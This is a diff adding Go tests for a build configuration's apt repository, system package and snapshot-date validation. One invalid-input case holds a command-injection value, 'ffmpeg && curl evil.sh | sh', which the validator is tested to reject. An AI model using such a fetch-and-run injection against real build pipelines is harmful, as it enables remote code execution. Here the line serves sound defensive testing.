@@ -0,0 +1,80 @@
+package config
+
+import (
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/require"
+)
+
+func TestAptRepositories(t *testing.T) {
+	cfg, err := FromYAML([]byte(`
+build:
+  python_version: "3.12"
+  system_packages:
+    - ffmpeg
+    - libcudnn8=8.9.7.29-1+cuda12.2
+    - git/jammy-backports
+    - libc6:i386
+  apt_repositories:
+    - name: nvidia
+      source: deb https://developer.download.nvidia.com/compute/cuda/repos/ubuntu2204/x86_64 /
+      key_url: https://developer.download.nvidia.com/compute/cuda/repos/ubuntu2204/x86_64/3bf863cc.pub
+      key_fingerprint: EB69 3B30 35CD 5710 E231  E123 A4B4 6996 3BF8 63CC
+    - name: docker
+      source: deb [arch=amd64] https://download.docker.com/linux/ubuntu jammy stable
+      key_url: https://download.docker.com/linux/ubuntu/gpg
+`))
+	require.NoError(t, err)
+	require.NoError(t, cfg.Build.validateSystemPackages())
+
+	nvidia := cfg.Build.AptRepositories[0]
+	require.Equal(t, "/etc/apt/keyrings/nvidia.gpg", nvidia.KeyringPath())
+	require.Equal(t, "/etc/apt/sources.list.d/nvidia.list", nvidia.SourcesListPath())
+	require.Equal(t, "deb [signed-by=/etc/apt/keyrings/nvidia.gpg] https://developer.download.nvidia.com/compute/cuda/repos/ubuntu2204/x86_64 /", nvidia.SignedSource())
+	require.Equal(t, "EB693B3035CD5710E231E123A4B469963BF863CC", nvidia.Fingerprint())
+
+	docker := cfg.Build.AptRepositories[1]
+	require.Equal(t, "deb [signed-by=/etc/apt/keyrings/docker.gpg arch=amd64] https://download.docker.com/linux/ubuntu jammy stable", docker.SignedSource())
+}
+
+func TestAptRepositoriesInvalid(t *testing.T) {
+	valid := AptRepository{Name: "example", Source: "deb https://apt.example.com stable main", KeyURL: "https://apt.example.com/key.asc"}
+	for _, tc := range []struct {
+		build Build
+		err   string
+	}{
+		{Build{SystemPackages: []string{"ffmpeg && curl evil.sh | sh"}}, "Invalid system package"},
+		{Build{SystemPackages: []string{"ffmpeg="}}, "Invalid system package"},
+		{Build{AptRepositories: []AptRepository{{Name: "Example", Source: valid.Source, KeyURL: valid.KeyURL}}}, "Invalid apt repository name"},
+		{Build{AptRepositories: []AptRepository{valid, valid}}, "more than once"},
+		{Build{AptRepositories: []AptRepository{{Name: "example", Source: "https://apt.example.com", KeyURL: valid.KeyURL}}}, "sources.list line"},
+		{Build{AptRepositories: []AptRepository{{Name: "example", Source: valid.Source}}}, "must have a key_url"},
+		{Build{AptRepositories: []AptRepository{{Name: "example", Source: valid.Source, KeyURL: valid.KeyURL, KeyFingerprint: "1234"}}}, "40 character"},
+		{Build{AptRepositories: []AptRepository{{Name: "example", Source: valid.Source, KeyURL: "http://apt.example.com/key.asc"}}}, "isn't HTTPS"},
+	} {
+		require.ErrorContains(t, tc.build.validateSystemPackages(), tc.err)
+	}
+}
+
+func TestAptSnapshotTimestamp(t *testing.T) {
+	for _, tc := range []struct {
+		snapshot string
+		expected string
+	}{
+		{"", ""},
+		{"2024-03-01", "20240301T000000Z"},
+		{"20240301T120000Z", "20240301T120000Z"},
+		{"2024-03-01T12:00:00+02:00", "20240301T100000Z"},
+	} {
+		build := &Build{AptSnapshot: tc.snapshot}
+		timestamp, err := build.AptSnapshotTimestamp()
+		require.NoError(t, err)
+		require.Equal(t, tc.expected, timestamp)
+	}
+
+	_, err := (&Build{AptSnapshot: "last tuesday"}).AptSnapshotTimestamp()
+	require.ErrorContains(t, err, "must be a date")
+	_, err = (&Build{AptSnapshot: time.Now().AddDate(1, 0, 0).Format("2006-01-02")}).AptSnapshotTimestamp()
+	require.ErrorContains(t, err, "in the future")
+}